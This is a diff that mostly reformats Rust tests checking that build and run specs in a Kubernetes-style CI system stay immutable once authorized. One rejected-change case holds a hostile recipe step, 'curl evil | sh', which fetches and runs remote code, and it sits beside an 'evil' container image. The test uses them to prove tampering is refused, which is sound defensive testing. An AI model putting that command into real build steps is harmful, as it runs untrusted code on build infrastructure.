@@ -26,11 +26,20 @@ pub fn cases(kind: &str) -> Vec<Case> {
 }
 
 fn pr_build() -> Vec<Case> {
-    const REQUEST: &str = "spec.request is immutable: it records what was authorized. Ask for a new build instead";
+    const REQUEST: &str =
+        "spec.request is immutable: it records what was authorized. Ask for a new build instead";
     const CANCEL: &str = "spec.cancel is set once and stays: a cancelled build does not come back. Ask for a new one";
     let merge = json!({ "mergeSha": sha(), "mergeTree": sha(), "baseSha": sha() });
-    let fixed = |change: Value| Case { first: json!({}), change: json!({ "request": change }), says: REQUEST };
-    let stopped = |change| Case { first: json!({ "cancel": cancel() }), change, says: CANCEL };
+    let fixed = |change: Value| Case {
+        first: json!({}),
+        change: json!({ "request": change }),
+        says: REQUEST,
+    };
+    let stopped = |change| Case {
+        first: json!({ "cancel": cancel() }),
+        change,
+        says: CANCEL,
+    };
     vec![
         fixed(json!({ "headSha": "f".repeat(40) })),
         fixed(merge.clone()),
@@ -56,14 +65,31 @@ fn builder_run() -> Vec<Case> {
     const BELONGS: &str = "a run belongs to one build and one attempt for ever";
     const TASK: &str = "spec.task is immutable: it is what was authorized and dispatched";
     const CANCEL: &str = "spec.cancel is set once and stays";
-    let case = |change, says| Case { first: json!({}), change, says };
-    let stopped = |change| Case { first: json!({ "cancel": cancel() }), change, says: CANCEL };
+    let case = |change, says| Case {
+        first: json!({}),
+        change,
+        says,
+    };
+    let stopped = |change| Case {
+        first: json!({ "cancel": cancel() }),
+        change,
+        says: CANCEL,
+    };
     vec![
         case(json!({ "prBuild": { "uid": "another" } }), BELONGS),
         case(json!({ "attempt": 2 }), BELONGS),
-        case(json!({ "task": { "source": { "commit": "f".repeat(40) } } }), TASK),
-        case(json!({ "task": { "recipe": { "steps": [{ "run": "curl evil | sh" }] } } }), TASK),
-        case(json!({ "task": { "kubernetes": { "image": "evil" } } }), TASK),
+        case(
+            json!({ "task": { "source": { "commit": "f".repeat(40) } } }),
+            TASK,
+        ),
+        case(
+            json!({ "task": { "recipe": { "steps": [{ "run": "curl evil | sh" }] } } }),
+            TASK,
+        ),
+        case(
+            json!({ "task": { "kubernetes": { "image": "evil" } } }),
+            TASK,
+        ),
         case(json!({ "task": { "invalid": "it cannot run" } }), TASK),
         stopped(json!({ "cancel": null })),
         stopped(json!({ "cancel": { "reason": "another one" } })),
@@ -79,16 +105,35 @@ fn answer() -> Vec<Case> {
         json!({ "facts": { "detail": "more" } }),
         json!({ "trigger": { "user": { "id": 4 } } }),
     ];
-    changes.map(|change| Case { first: json!({}), change, says: SAYS }).into()
+    changes
+        .map(|change| Case {
+            first: json!({}),
+            change,
+            says: SAYS,
+        })
+        .into()
 }
 
 /// Makes an object for every case of a kind, and tries to change it.
 async fn stays(kind: &str) {
     let desk = Desk::open(&format!("stays-{}", kind.to_lowercase())).await;
-    for (index, Case { first, change, says }) in cases(kind).into_iter().enumerate() {
+    for (
+        index,
+        Case {
+            first,
+            change,
+            says,
+        },
+    ) in cases(kind).into_iter().enumerate()
+    {
         let name = format!("{}-{index}", samples::name(kind));
-        let before = desk.make(kind, &name, &with(samples::spec(kind), first)).await;
-        let said = desk.patch(kind, &name, &json!({ "spec": change }), false).await.unwrap_err();
+        let before = desk
+            .make(kind, &name, &with(samples::spec(kind), first))
+            .await;
+        let said = desk
+            .patch(kind, &name, &json!({ "spec": change }), false)
+            .await
+            .unwrap_err();
         assert!(said.contains(says), "{change}: {said}");
         let after = desk.objects(kind).get(&name).await.unwrap();
         assert_eq!(after.data["spec"], before, "{change}");
@@ -117,12 +162,29 @@ async fn s23_a_spec_cannot_be_taken_away() {
     for kind in samples::KINDS {
         let name = samples::name(kind);
         desk.make(kind, name, &samples::spec(kind)).await;
-        let said = desk.patch(kind, name, &json!({ "spec": null }), false).await.unwrap_err();
+        let said = desk
+            .patch(kind, name, &json!({ "spec": null }), false)
+            .await
+            .unwrap_err();
         assert!(said.contains("spec: Required value"), "{kind}: {said}");
     }
-    let said = desk.patch("PrBuild", "app-7-l1", &json!({ "spec": { "request": null } }), false).await;
+    let said = desk
+        .patch(
+            "PrBuild",
+            "app-7-l1",
+            &json!({ "spec": { "request": null } }),
+            false,
+        )
+        .await;
     assert!(said.unwrap_err().contains("spec.request: Required value"));
-    let said = desk.patch("BuilderRun", "app-7-l1-debian-1", &json!({ "spec": { "task": null } }), false).await;
+    let said = desk
+        .patch(
+            "BuilderRun",
+            "app-7-l1-debian-1",
+            &json!({ "spec": { "task": null } }),
+            false,
+        )
+        .await;
     assert!(said.unwrap_err().contains("spec.task: Required value"));
     desk.close().await;
 }
@@ -145,9 +207,22 @@ async fn a_build_and_a_run_can_be_cancelled_once_and_the_same_wish_again_changes
 #[tokio::test]
 async fn a_null_that_was_stored_with_the_build_does_not_keep_it_from_being_cancelled() {
     let desk = Desk::open("cancel-null").await;
-    let spec = desk.make("PrBuild", "app-7-l1", &with(samples::spec("PrBuild"), json!({ "cancel": null }))).await;
+    let spec = desk
+        .make(
+            "PrBuild",
+            "app-7-l1",
+            &with(samples::spec("PrBuild"), json!({ "cancel": null })),
+        )
+        .await;
     assert!(spec.get("cancel").is_none(), "{spec}");
-    desk.patch("PrBuild", "app-7-l1", &json!({ "spec": { "cancel": cancel() } }), false).await.unwrap();
+    desk.patch(
+        "PrBuild",
+        "app-7-l1",
+        &json!({ "spec": { "cancel": cancel() } }),
+        false,
+    )
+    .await
+    .unwrap();
     desk.close().await;
 }
 
@@ -160,7 +235,11 @@ async fn the_status_is_written_apart_from_the_spec() {
         let status = json!({ "status": { "fullName": "a/b", "phase": "Complete", "given": "Silent", "conditions": [] } });
         desk.patch(kind, name, &status, false).await.unwrap();
         let object = desk.objects(kind).get(name).await.unwrap();
-        assert!(object.data.get("status").is_none(), "{kind}: {}", object.data);
+        assert!(
+            object.data.get("status").is_none(),
+            "{kind}: {}",
+            object.data
+        );
         desk.patch_status(kind, name, json!({})).await.unwrap();
         let object = desk.objects(kind).get(name).await.unwrap();
         assert_eq!(object.data["spec"], spec, "{kind}");
